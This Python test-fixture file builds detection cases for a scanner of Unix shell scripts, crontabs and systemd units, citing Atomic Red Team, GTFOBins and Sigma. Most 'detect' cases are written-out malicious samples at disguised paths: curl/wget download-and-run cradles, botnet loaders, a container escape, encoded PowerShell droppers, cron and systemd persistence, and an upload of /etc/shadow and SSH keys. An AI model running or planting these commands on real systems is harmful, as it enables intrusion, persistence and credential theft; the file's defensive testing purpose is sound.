# Unix script carriers: sh, bash-cron, cron, systemd, text -- detect and silent.
from common import C, b64, ps_enc

ART = "atomic-red-team T1105"
GTFO = "GTFOBins"
SIG = "Sigma"

# ================================================================ sh: detect
C("h3-sh-curl-output-chmod-run-01", ART + " 'Linux Download File and Run' (curl --output, chmod 755, run)", "sh",
  "/usr/local/libexec/agent-bootstrap", "detect", r"""#!/bin/sh
set -eu
curl --silent --show-error --fail --retry 3 --output /var/tmp/agentd https://203.0.113.77/releases/agentd
chmod 755 /var/tmp/agentd
/var/tmp/agentd --daemon
""")

C("h3-sh-wget-devshm-02", SIG + " 'Download File To Potentially Suspicious Directory Via Wget' (/dev/shm)", "sh",
  "/usr/lib/x86_64-linux-gnu/.updater", "detect", r"""#!/bin/bash
wget --no-check-certificate -q -O /dev/shm/.kworker http://198.51.100.61:8443/kw
chmod +x /dev/shm/.kworker && /dev/shm/.kworker >/dev/null 2>&1 &
""")

C("h3-sh-mirai-cd-chain-03", "Mirai-style loader line: cd /tmp || cd /var/run ...; wget; chmod 777", "sh",
  "/var/run/.sshd-helper", "detect", r"""#!/bin/sh
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.150/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh
""")

C("h3-sh-arch-for-loop-04", "botnet dropper: for-loop over architectures, download each, chmod, run", "sh",
  "/usr/share/misc/.arch.sh", "detect", r"""#!/bin/sh
for a in x86 arm7 mips mpsl aarch64; do
    busybox wget http://198.51.100.33/b/$a -O -> .n_$a
    chmod 777 .n_$a
    ./.n_$a selfrep
done
""")

C("h3-sh-busybox-ftpget-05", "busybox ftpget applet pulling a binary", "sh",
  "/etc/init.d/S99fwupd", "detect", r"""#!/bin/sh
case "$1" in
  start)
    busybox ftpget -u anonymous -p guest 203.0.113.9 /tmp/fw.bin /pub/fw/latest.bin
    chmod +x /tmp/fw.bin && /tmp/fw.bin &
    ;;
  stop)
    killall fw.bin
    ;;
esac
""")

C("h3-sh-atftp-get-06", "atftp --get (TFTP client other than tftp-hpa/busybox)", "sh",
  "/usr/local/sbin/pxe-refresh", "detect", r"""#!/bin/sh
atftp --get -r boot/kernel.bin -l /srv/tftp/kernel.bin 192.0.2.50 69
atftp --get --remote-file agent --local-file /usr/local/bin/pxe-agent 192.0.2.50
chmod 0755 /usr/local/bin/pxe-agent
""")

C("h3-sh-ncftpget-07", "ncftpget recursive FTP download", "sh",
  "/opt/backup/bin/pull-archives.sh", "detect", r"""#!/bin/bash
DEST=/opt/backup/incoming
mkdir -p "$DEST"
ncftpget -u backup -p 's3cr3t' -R ftp.files.example "$DEST" /exports/tools/
""")

C("h3-sh-curl-ftp-userpass-08", "curl -u user:pass ftp:// download", "sh",
  "/opt/etl/bin/fetch-feed", "detect", r"""#!/bin/sh
curl -s -u feed:Feed2024 "ftp://ftp.partner.example/outgoing/loader.bin" -o /opt/etl/lib/loader.bin
""")

C("h3-sh-sftp-batch-heredoc-09", GTFO + " sftp download via batch file on stdin (-b -)", "sh",
  "/usr/local/bin/sync-plugins", "detect", r"""#!/bin/bash
sftp -b - -oStrictHostKeyChecking=no deploy@files.corp.example <<'SFTP'
cd /srv/plugins
get plugin-latest.so /usr/lib/app/plugins/plugin.so
bye
SFTP
""")

C("h3-sh-rsync-ssh-port-10", "rsync pull over ssh on a non-standard port (-e 'ssh -p')", "sh",
  "/opt/render/bin/pull-models.sh", "detect", r"""#!/bin/sh
rsync -az --delete -e "ssh -p 2222 -i /etc/render/id_ed25519" \
    models@198.51.100.45:/data/models/ /opt/render/models/
""")

C("h3-sh-socat-create-11", GTFO + " socat -u tcp-connect ... create: (file download)", "sh",
  "/usr/lib/netdata/.s", "detect", r"""#!/bin/sh
socat -u TCP4:203.0.113.19:9001 CREATE:/tmp/.p,perm=0755
/tmp/.p
""")

C("h3-sh-ncat-recv-only-12", "ncat --recv-only into a file", "sh",
  "/opt/diag/recv.sh", "detect", r"""#!/bin/sh
ncat --recv-only 198.51.100.12 7001 > /usr/local/bin/diagd
chmod u+x /usr/local/bin/diagd
""")

C("h3-sh-rustup-style-proto-13", "installer cradle: curl --proto '=https' --tlsv1.2 -sSf ... | sh -s -- -y", "sh",
  "/opt/toolchain/install.sh", "detect", r"""#!/bin/sh
curl --proto '=https' --tlsv1.2 -sSf https://sh.toolchain.example/init.sh | sh -s -- -y --default-toolchain stable
""")

C("h3-sh-cmd-subst-in-url-14", "wget with command substitution inside the URL", "sh",
  "/usr/local/bin/get-kubectl", "detect", r"""#!/bin/bash
wget -qO /usr/local/bin/kubectl "https://dl.k8s.example/release/v1.30.0/bin/$(uname -s | tr A-Z a-z)/amd64/kubectl"
chmod +x /usr/local/bin/kubectl
""")

C("h3-sh-curl-gunzip-binary-15", "download piped through gunzip into PATH", "sh",
  "/opt/bin/install-helper", "detect", r"""#!/bin/sh
URL="http://203.0.113.31/dist/helper-linux-amd64.gz"
curl -sL "$URL" | gunzip > /usr/local/bin/helper
chmod +x /usr/local/bin/helper
""")

C("h3-sh-nsenter-host-16", "TeamTNT-style container escape: nsenter into PID 1 and download", "sh",
  "/root/.configrc/escape.sh", "detect", r"""#!/bin/sh
nsenter -t 1 -m -u -i -n -p -- sh -c "wget -q -O /usr/bin/dockerd-helper http://198.51.100.201/d && chmod +x /usr/bin/dockerd-helper && /usr/bin/dockerd-helper"
""")

C("h3-sh-chroot-host-17", "chroot into mounted host filesystem then curl | sh", "sh",
  "/usr/local/bin/hostfix", "detect", r"""#!/bin/sh
if [ -d /host/etc ]; then
  chroot /host /bin/bash -c 'curl -fsSL http://203.0.113.240/h.sh | bash'
fi
""")

C("h3-sh-torsocks-proxychains-18", "wrappers: torsocks / proxychains4 in front of curl and wget", "sh",
  "/opt/.hidden/run.sh", "detect", r"""#!/bin/bash
torsocks curl -s http://hidden-service.example/stage2 -o /tmp/.s2
proxychains4 -q wget -q http://mirror.relay.example/xm -O /tmp/.xm
chmod +x /tmp/.s2 /tmp/.xm
""")

C("h3-sh-taskset-chrt-19", "wrappers: taskset / chrt / ionice -c3 before wget", "sh",
  "/usr/sbin/irqbalance-helper", "detect", r"""#!/bin/sh
taskset -c 0 chrt -i 0 wget -q http://198.51.100.88/irq/helper -O /usr/sbin/.irqh
/usr/sbin/.irqh &
""")

C("h3-sh-sshpass-scp-20", "sshpass wrapper around scp pull", "sh",
  "/usr/local/bin/fetch-license", "detect", r"""#!/bin/bash
SSHPASS='Lic3nse!' sshpass -e scp -o StrictHostKeyChecking=no lic@licenses.corp.example:/srv/lic/app.lic /etc/app/app.lic
""")

C("h3-sh-curl-socks-proxy-remote-21", "curl through a local SOCKS proxy to a remote URL (proxy is loopback, target is not)", "sh",
  "/opt/relay/fetch.sh", "detect", r"""#!/bin/sh
curl -s -x socks5h://127.0.0.1:9050 http://payloads.relay.example/m.bin -o /opt/relay/m.bin
chmod +x /opt/relay/m.bin
""")

C("h3-sh-downloader-detect-var-22", "downloader picked at run time into a variable, then used with a URL", "sh",
  "/docker-entrypoint.d/15-plugins.sh", "detect", r"""#!/bin/sh
if command -v curl >/dev/null 2>&1; then
  DL="curl -fsSL -o"
else
  DL="wget -q -O"
fi
$DL /usr/share/nginx/modules/ngx_extra.so "http://203.0.113.66/mods/ngx_extra.so"
""")

C("h3-sh-python-heredoc-23", "here-doc fed to python3 - that downloads and runs", "sh",
  "/usr/local/bin/py-bootstrap", "detect", r"""#!/bin/sh
python3 - <<'PY'
import os, urllib.request
urllib.request.urlretrieve("http://198.51.100.14/p/agent.bin", "/tmp/agent.bin")
os.chmod("/tmp/agent.bin", 0o755)
os.execv("/tmp/agent.bin", ["agent"])
PY
""")

C("h3-sh-php-r-copy-24", GTFO + " php -r copy() of a remote URL", "sh",
  "/var/www/bin/refresh-vendor.sh", "detect", r"""#!/bin/sh
php -r 'copy("https://203.0.113.48/vendor/composer.phar", "/usr/local/bin/composer");'
chmod +x /usr/local/bin/composer
""")

C("h3-sh-ruby-net-http-oneliner-25", GTFO + " ruby -rnet/http one-liner writing a file", "sh",
  "/usr/local/bin/rb-get", "detect", r"""#!/bin/sh
ruby -rnet/http -e 'File.binwrite("/tmp/r.bin", Net::HTTP.get(URI("http://198.51.100.90/r.bin")))'
chmod +x /tmp/r.bin
""")

C("h3-sh-node-fetch-eval-26", "node -e fetch().then(eval) (remote code evaluated)", "sh",
  "/app/bin/warm.sh", "detect", r"""#!/bin/sh
node -e "fetch('https://cdn.assets.example/warm.js').then(r => r.text()).then(eval)"
""")

C("h3-sh-openssl-base64-decode-27", "base64 payload decoded by openssl and piped to sh", "sh",
  "/etc/update-motd.d/99-extra", "detect", "#!/bin/sh\necho '" +
  b64("wget -q -O- http://203.0.113.93/m.sh | sh") + "' | openssl base64 -d -A | sh\n")

C("h3-sh-gzip-pipe-sh-28", "wget -O - | gzip -d | sh", "sh",
  "/usr/libexec/cloud/post-boot", "detect", r"""#!/bin/sh
wget -q -O - http://198.51.100.77/boot.sh.gz | gzip -dc | sh
""")

C("h3-sh-curl-data-binary-exfil-29", SIG + " 'Suspicious Curl File Upload - Linux' (--data-binary @file)", "sh",
  "/usr/local/bin/crash-report", "detect", r"""#!/bin/sh
tar czf /tmp/diag.tgz /etc/passwd /etc/shadow /root/.ssh 2>/dev/null
curl -s --data-binary @/tmp/diag.tgz -H 'Content-Type: application/octet-stream' https://collect.reports.example/u
""")

C("h3-sh-wget-method-put-30", "wget --method=PUT --body-file (upload)", "sh",
  "/opt/agent/bin/push-inventory", "detect", r"""#!/bin/sh
wget -q --method=PUT --body-file=/var/lib/agent/inventory.json http://198.51.100.3:8080/inv/$(hostname)
""")

C("h3-sh-rclone-copyurl-31", "rclone copyurl of a remote URL", "sh",
  "/usr/local/bin/stage-assets", "detect", r"""#!/bin/sh
rclone copyurl https://files.assets.example/pack/tools.tar.gz /var/cache/tools.tar.gz
tar -xzf /var/cache/tools.tar.gz -C /opt/tools
""")

C("h3-sh-ssh-tar-stream-32", "ssh remote tar streamed into local tar (pull a directory tree)", "sh",
  "/usr/local/sbin/restore-opt", "detect", r"""#!/bin/sh
ssh -i /root/.ssh/restore backup@203.0.113.120 'tar -C /srv/snap -czf - opt' | tar -C / -xzf -
""")

C("h3-sh-nvm-style-curl-o-dash-33", "installer cradle: curl -o- url | bash (nvm style)", "sh",
  "/home/dev/.bootstrap/nvm.sh", "detect", r"""#!/usr/bin/env bash
export NVM_DIR="$HOME/.nvm"
curl -o- https://raw.installers.example/nvm/v0.40.1/install.sh | bash
""")

C("h3-sh-exec-curl-last-line-34", "entrypoint whose last line execs a downloaded-and-piped script", "sh",
  "/usr/local/bin/start-worker", "detect", r"""#!/bin/bash
set -e
: "${WORKER_QUEUE:=default}"
export WORKER_QUEUE
if [ "$1" = "shell" ]; then exec /bin/bash; fi
exec bash -c "curl -fsS http://198.51.100.140/worker/run.sh | bash -s -- $WORKER_QUEUE"
""")

C("h3-sh-tool-path-var-35", "tool path held in a variable ($CURL) and URL in another", "sh",
  "/opt/monitoring/bin/install-probe", "detect", r"""#!/bin/sh
CURL=/usr/bin/curl
PROBE_SRC=https://probes.monitoring.example/linux/probe
INSTALL_DIR=/opt/monitoring/bin

$CURL -fsSL "$PROBE_SRC" -o "$INSTALL_DIR/probe"
chmod 0755 "$INSTALL_DIR/probe"
""")

C("h3-sh-curl-to-cron-d-36", "download that writes a persistence file into /etc/cron.d", "sh",
  "/usr/local/bin/.persist", "detect", r"""#!/bin/sh
curl -fsSL http://203.0.113.211/c.txt -o /etc/cron.d/0system
wget -q http://203.0.113.211/k -O /usr/local/bin/kdevtmpfsi && chmod +x /usr/local/bin/kdevtmpfsi
""")

C("h3-sh-wget-recursive-mirror-37", "wget -r -np -nH mirror of a remote directory", "sh",
  "/opt/docs-sync/pull.sh", "detect", r"""#!/bin/sh
wget -r -np -nH --cut-dirs=2 -R 'index.html*' -P /opt/plugins http://198.51.100.21/repo/plugins/
""")

C("h3-sh-script-qc-wrapper-38", "wrapper: script -qc \"wget ...\" /dev/null", "sh",
  "/usr/local/bin/tty-update", "detect", r"""#!/bin/sh
script -qc "wget -q http://203.0.113.102/t/upd -O /tmp/.upd && sh /tmp/.upd" /dev/null
""")

C("h3-sh-dev-tcp-exec-fd-39", GTFO + " bash download over exec N<>/dev/tcp with a raw HTTP request", "sh",
  "/usr/local/bin/nocurl-get", "detect", r"""#!/bin/bash
exec 5<>/dev/tcp/198.51.100.55/80
printf 'GET /drop/x HTTP/1.0\r\nHost: 198.51.100.55\r\n\r\n' >&5
sed '1,/^\r$/d' <&5 > /tmp/x
chmod +x /tmp/x
""")

C("h3-sh-sudo-u-curl-40", "sudo -u <user> -- curl | sh", "sh",
  "/opt/devbox/user-setup.sh", "detect", r"""#!/bin/bash
sudo -u developer -H -- bash -c 'curl -fsSL https://get.devtools.example/setup | sh'
""")

# ================================================================ sh: silent
C("h3-sh-silent-es-health-01", "look-alike: curl to 127.0.0.1 cluster health, wget --spider localhost", "sh",
  "/usr/local/bin/es-ready", "silent", r"""#!/bin/sh
until curl -fsS "http://127.0.0.1:9200/_cluster/health?wait_for_status=yellow&timeout=5s" >/dev/null; do
  sleep 2
done
wget -q --spider http://localhost:5601/api/status && echo "kibana up"
""")

C("h3-sh-silent-nc-z-ports-02", "look-alike: nc -z port checks against local services", "sh",
  "/usr/local/bin/wait-deps", "silent", r"""#!/bin/sh
for p in 5432 6379 9092; do
  while ! nc -z localhost "$p"; do sleep 1; done
done
exec "$@"
""")

C("h3-sh-silent-dnf-apk-install-03", "look-alike: package managers installing curl/wget/rsync", "sh",
  "/usr/local/bin/install-base-tools", "silent", r"""#!/bin/sh
set -e
if command -v apk >/dev/null; then
  apk add --no-cache curl wget rsync openssh-client
elif command -v dnf >/dev/null; then
  dnf -y install curl wget rsync && dnf clean all
else
  apt-get update && apt-get install -y --no-install-recommends curl wget rsync
fi
""")

C("h3-sh-silent-alias-functions-04", "look-alike: aliases and functions named after download tools, never called with a URL", "sh",
  "/etc/profile.d/dev-aliases.sh", "silent", r"""# developer shell conveniences
alias wget='wget -c'
alias curlj='curl -s -H "Accept: application/json"'
scpcfg() { echo "scp options: ${SCP_OPTS:-none}"; }
export RSYNC_RSH="ssh -o BatchMode=yes"
""", executable=False)

C("h3-sh-silent-logger-05", "look-alike: log lines and messages naming curl/wget", "sh",
  "/usr/local/bin/report-status", "silent", r"""#!/bin/sh
logger -t provision "step 3/5: curl and wget available, skipping download (offline mode)"
printf '%s\n' "[info] certutil/bitsadmin are Windows tools and are not used here"
echo "Mirror sync disabled; set MIRROR_URL to enable" >&2
""")

C("h3-sh-silent-local-cp-tar-06", "look-alike: copy and extract local archives only", "sh",
  "/usr/local/bin/unpack-bundle", "silent", r"""#!/bin/sh
set -e
cp /opt/bundle/tools.tar.gz /tmp/tools.tar.gz
tar -xzf /tmp/tools.tar.gz -C /opt/tools
install -m 0755 /opt/tools/bin/helper /usr/local/bin/helper
rsync -a /opt/tools/share/ /usr/local/share/tools/
""")

C("h3-sh-silent-docker-socket-07", "look-alike: curl over the docker unix socket (no remote host)", "sh",
  "/usr/local/bin/list-containers", "silent", r"""#!/bin/sh
curl -s --unix-socket /run/docker.sock http://localhost/v1.44/containers/json | jq -r '.[].Names[0]'
""")

C("h3-sh-silent-usage-function-08", "look-alike: usage() here-doc printed to stdout mentioning curl | sh", "sh",
  "/usr/local/bin/kitctl", "silent", r"""#!/bin/sh
usage() {
  cat <<USAGE
kitctl - manage the local toolkit

Install on another machine with:
    curl -fsSL https://kit.example.com/install.sh | sh

Commands:
    list      list installed tools
    remove    remove a tool
USAGE
}
case "$1" in
  ""|-h|--help) usage ;;
  list) ls /opt/kit ;;
  remove) rm -rf "/opt/kit/$2" ;;
esac
""")

C("h3-sh-silent-ipv6-loopback-wget-09", "look-alike: wget to [::1] and curl to 127.0.0.1 metrics", "sh",
  "/usr/local/bin/scrape-self", "silent", r"""#!/bin/sh
wget -qO- 'http://[::1]:9100/metrics' | grep -c '^node_'
curl -s http://127.0.0.1:8080/actuator/prometheus > /var/lib/app/last-scrape.txt
""")

C("h3-sh-silent-go-npm-pip-10", "look-alike: language package managers with default registries", "sh",
  "/src/scripts/deps.sh", "silent", r"""#!/bin/sh
set -e
go mod download
npm ci --no-audit
pip install --no-cache-dir -r requirements.txt
bundle install --jobs 4
""")

# ================================================================ bash-cron
C("h3-bashcron-daily-curl-o-run-01", "cron.daily script downloading and running an updater", "bash-cron",
  "/etc/cron.daily/av-signatures", "detect", r"""#!/bin/sh
curl -fsS -o /var/lib/av/update.bin http://203.0.113.8/sig/update.bin && sh /var/lib/av/update.bin
""")

C("h3-bashcron-hourly-rsync-pull-02", "cron.hourly rsync pull from a remote rsync host", "bash-cron",
  "/etc/cron.hourly/pull-config", "detect", r"""#!/bin/bash
rsync -a cfg@config.corp.example:/exports/app/ /etc/app/ >/dev/null 2>&1
""")

C("h3-bashcron-weekly-wget-base64-03", "cron.weekly script: base64 blob decoded and run (downloader inside)", "bash-cron",
  "/etc/cron.weekly/0anacron-extra", "detect", "#!/bin/sh\nprintf %s " +
  b64("curl -s http://198.51.100.170/w.sh || wget -q -O- http://198.51.100.170/w.sh") + " | base64 -d | bash\n")

C("h3-bashcron-monthly-lwp-download-04", GTFO + " lwp-download in cron.monthly", "bash-cron",
  "/etc/cron.monthly/geoip-refresh", "detect", r"""#!/bin/sh
lwp-download http://geo.data.example/GeoLite2-City.mmdb /var/lib/geoip/GeoLite2-City.mmdb
""")

C("h3-bashcron-silent-logrotate-01", "look-alike: daily script rotating logs and compressing", "bash-cron",
  "/etc/cron.daily/app-logs", "silent", r"""#!/bin/sh
find /var/log/app -name '*.log' -mtime +7 -exec gzip {} \;
find /var/log/app -name '*.gz' -mtime +30 -delete
""")

C("h3-bashcron-silent-local-metrics-02", "look-alike: hourly push of metrics to a loopback pushgateway", "bash-cron",
  "/etc/cron.hourly/push-metrics", "silent", r"""#!/bin/sh
echo "backup_last_run $(date +%s)" | curl -s --data-binary @- http://127.0.0.1:9091/metrics/job/backup
""")

# ================================================================ cron
C("h3-cron-d-user-field-curl-sh-01", "Kinsing-style /etc/cron.d entry with user field: curl | sh every minute", "cron",
  "/etc/cron.d/php-sessionclean", "detect", r"""# /etc/cron.d/php-sessionclean
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
* * * * * root (curl -s http://203.0.113.85/pc.sh||wget -q -O- http://203.0.113.85/pc.sh)|sh
09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean
""")

C("h3-cron-spool-user-wget-02", "user crontab (no user field) with @reboot wget to /tmp", "cron",
  "/var/spool/cron/crontabs/postgres", "detect", r"""# DO NOT EDIT THIS FILE - edit the master and reinstall.
@reboot wget -q -O /tmp/.pg http://198.51.100.66/pg && chmod +x /tmp/.pg && /tmp/.pg
""")

C("h3-cron-etc-crontab-scp-03", "/etc/cron.d file (crontab layout, user field) running scp pull", "cron",
  "/etc/cron.d/backup-keys", "detect", r"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
30 2	* * *	backup  scp -q -i /home/backup/.ssh/id_rsa store@198.51.100.5:/exports/keys.tar /var/backups/keys.tar
""")

C("h3-cron-d-python-urlopen-04", "/etc/cron.d with user field running a python one-liner download", "cron",
  "/etc/cron.d/model-refresh", "detect", r"""MAILTO=""
*/30 * * * * app /usr/bin/python3 -c "import urllib.request as u; open('/srv/model.bin','wb').write(u.urlopen('http://203.0.113.54/m.bin').read())"
""")

C("h3-cron-spool-rhel-curl-upload-05", "RHEL user crontab with curl -T upload (push)", "cron",
  "/var/spool/cron/nginx", "detect", r"""0 */6 * * * curl -s -T /var/log/nginx/access.log ftp://logs.collect.example/incoming/ --user up:load
""")

C("h3-cron-d-pwsh-enc-06", "/etc/cron.d pwsh -EncodedCommand on Linux", "cron",
  "/etc/cron.d/ps-agent", "detect", "*/15 * * * * root /usr/bin/pwsh -NoLogo -NonInteractive -EncodedCommand " +
  ps_enc("Invoke-WebRequest -Uri http://198.51.100.130/a.ps1 -OutFile /tmp/a.ps1; & /tmp/a.ps1") + "\n")

C("h3-cron-alpine-root-busybox-wget-07", "Alpine-style user crontab (no user field) with periodic lines and a busybox wget | sh", "cron",
  "/var/spool/cron/crontabs/operator", "detect", r"""# min	hour	day	month	weekday	command
*/15	*	*	*	*	run-parts /etc/periodic/15min
0	*	*	*	*	run-parts /etc/periodic/hourly
*/10	*	*	*	*	busybox wget -q -O - http://203.0.113.177/a | sh
""")

C("h3-cron-silent-certbot-like-01", "look-alike: cron.d renewing certificates and running local backups", "cron",
  "/etc/cron.d/maintenance", "silent", r"""SHELL=/bin/sh
0 3 * * * root /usr/local/bin/backup-local.sh >/var/log/backup.log 2>&1
0 */12 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew
""")

C("h3-cron-silent-localhost-02", "look-alike: user crontab calling a local endpoint", "cron",
  "/var/spool/cron/crontabs/wordpress", "silent", r"""*/5 * * * * curl -fsS -o /dev/null http://127.0.0.1/wp-cron.php?doing_wp_cron
""")

C("h3-cron-silent-comment-03", "look-alike: crontab with a commented-out download job", "cron",
  "/etc/cron.d/legacy-sync", "silent", r"""# disabled 2024-03: remote sync moved to the sidecar
# */10 * * * * root wget -q -O /opt/data/feed.csv http://feeds.partner.example/feed.csv
15 4 * * * root find /opt/data -name '*.csv' -mtime +14 -delete
""")

# ================================================================ systemd
C("h3-systemd-execstart-curl-01", "systemd oneshot ExecStart=/usr/bin/curl -o", "systemd",
  "/etc/systemd/system/fetch-ruleset.service", "detect", r"""[Unit]
Description=Fetch IDS ruleset
Wants=network-online.target
After=network-online.target

[Service]
Type=oneshot
ExecStart=/usr/bin/curl -fsSL -o /etc/ids/rules.tar.gz https://rules.ids.example/latest.tar.gz
ExecStartPost=/bin/tar -xzf /etc/ids/rules.tar.gz -C /etc/ids

[Install]
WantedBy=multi-user.target
""")

C("h3-systemd-env-url-wget-02", "Environment= holds URL used by ExecStartPre=-/usr/bin/wget", "systemd",
  "/usr/lib/systemd/system/edge-proxy.service", "detect", r"""[Unit]
Description=Edge proxy

[Service]
Environment=PLUGIN_URL=http://203.0.113.190/plugins/auth.so
ExecStartPre=-/usr/bin/wget -q -O /usr/lib/edge/auth.so ${PLUGIN_URL}
ExecStart=/usr/sbin/edge-proxy --plugin /usr/lib/edge/auth.so
Restart=always

[Install]
WantedBy=multi-user.target
""")

C("h3-systemd-dropin-sh-c-03", "drop-in adding ExecStartPre=/bin/sh -c 'curl | sh'", "systemd",
  "/etc/systemd/system/containerd.service.d/10-extra.conf", "detect", r"""[Service]
ExecStartPre=/bin/sh -c 'curl -s http://198.51.100.222/cn.sh | sh'
""")

C("h3-systemd-user-unit-python-04", "user unit in /etc/systemd/user running python -c urlretrieve", "systemd",
  "/etc/systemd/user/session-helper.service", "detect", r"""[Unit]
Description=Session helper

[Service]
ExecStart=/usr/bin/python3 -c "import urllib.request,os;urllib.request.urlretrieve('http://203.0.113.15/s','/tmp/.s');os.chmod('/tmp/.s',0o755);os.system('/tmp/.s')"

[Install]
WantedBy=default.target
""")

C("h3-systemd-pwsh-encoded-05", "unit running pwsh -EncodedCommand (download cradle)", "systemd",
  "/etc/systemd/system/ps-telemetry.service", "detect", "[Unit]\nDescription=PS telemetry\n\n[Service]\n"
  "ExecStart=/opt/microsoft/powershell/7/pwsh -NoProfile -EncodedCommand " +
  ps_enc("iex (irm http://198.51.100.99/t.ps1)") + "\n\n[Install]\nWantedBy=multi-user.target\n")

C("h3-systemd-timer-target-scp-06", "timer-triggered service running scp from a remote host", "systemd",
  "/lib/systemd/system/pull-certs.service", "detect", r"""[Unit]
Description=Pull TLS material (triggered by pull-certs.timer)

[Service]
Type=oneshot
User=certs
ExecStart=/usr/bin/scp -B -i /var/lib/certs/.ssh/id_ed25519 certs@vault.corp.example:/pki/issued/*.pem /etc/ssl/app/
""")

C("h3-systemd-silent-healthcheck-01", "look-alike: ExecStartPost loopback readiness check", "systemd",
  "/etc/systemd/system/search.service", "silent", r"""[Unit]
Description=Search node
After=network.target

[Service]
ExecStart=/opt/search/bin/search
ExecStartPost=/bin/sh -c 'until curl -sf http://127.0.0.1:9200/ >/dev/null; do sleep 1; done'

[Install]
WantedBy=multi-user.target
""")

C("h3-systemd-silent-docs-02", "look-alike: Documentation= URLs and a local rsync service", "systemd",
  "/lib/systemd/system/local-mirror.service", "silent", r"""[Unit]
Description=Mirror local build output into the web root
Documentation=man:rsync(1) https://docs.example.org/mirror

[Service]
Type=oneshot
ExecStart=/usr/bin/rsync -a --delete /srv/build/ /var/www/html/
""")

C("h3-systemd-silent-dropin-env-03", "look-alike: drop-in setting proxy env vars and limits", "systemd",
  "/etc/systemd/system/docker.service.d/http-proxy.conf", "silent", r"""[Service]
Environment="HTTP_PROXY=http://proxy.corp.example:3128"
Environment="NO_PROXY=localhost,127.0.0.1,.corp.example"
LimitNOFILE=1048576
""")

# ================================================================ text (all silent)
C("h3-text-silent-install-md-01", "look-alike: INSTALL.md with curl | sh and certutil instructions", "text",
  "/usr/share/doc/kitctl/INSTALL.md", "silent", r"""# Installing kitctl

Linux / macOS:

    curl -fsSL https://kit.example.com/install.sh | sh

Windows (cmd):

    certutil -urlcache -split -f https://kit.example.com/kitctl.exe kitctl.exe

Verify the checksum afterwards with `sha256sum kitctl`.
""")

C("h3-text-silent-wget-manpage-02", "look-alike: man-page style text for a downloader", "text",
  "/usr/share/doc/fetchit/fetchit.1.txt", "silent", r"""FETCHIT(1)                    User Commands                    FETCHIT(1)

NAME
       fetchit - non-interactive network downloader

SYNOPSIS
       fetchit [OPTION]... [URL]...

EXAMPLES
       fetchit -O /tmp/file http://www.example.com/file
              Download a file, like wget -O or curl -o.

       fetchit --upload ./report.txt ftp://ftp.example.com/in/
              Upload, like curl -T.
""")

C("h3-text-silent-ioc-list-03", "look-alike: IOC list of bad URLs and command lines (threat-intel data file)", "text",
  "/opt/ids/data/ioc-cmdlines.csv", "silent", r"""indicator,type,comment
"wget -q -O- http://203.0.113.85/pc.sh | sh",cmdline,kinsing dropper
"certutil -urlcache -f http://198.51.100.4/a.exe a.exe",cmdline,lolbin download
http://203.0.113.85/pc.sh,url,dropper script
""")

C("h3-text-silent-apt-history-04", "look-alike: apt history log mentioning curl and wget packages", "text",
  "/var/log/apt/history.log", "silent", r"""Start-Date: 2024-05-02  10:11:41
Commandline: apt-get install -y --no-install-recommends curl wget ca-certificates
Install: curl:amd64 (7.88.1-10+deb12u5), wget:amd64 (1.21.3-1+b2), libcurl4:amd64 (7.88.1-10+deb12u5, automatic)
End-Date: 2024-05-02  10:11:44
""")

C("h3-text-silent-faq-05", "look-alike: troubleshooting FAQ with PowerShell and scp examples", "text",
  "/opt/app/docs/FAQ.txt", "silent", r"""Q: The agent cannot reach the update server.
A: Test from the host with:
     Invoke-WebRequest -Uri https://updates.example.com/ping -UseBasicParsing
   or on Linux:
     curl -v https://updates.example.com/ping
Q: How do I copy logs to support?
A: scp /var/log/app/*.log support@upload.example.com:/incoming/
""")
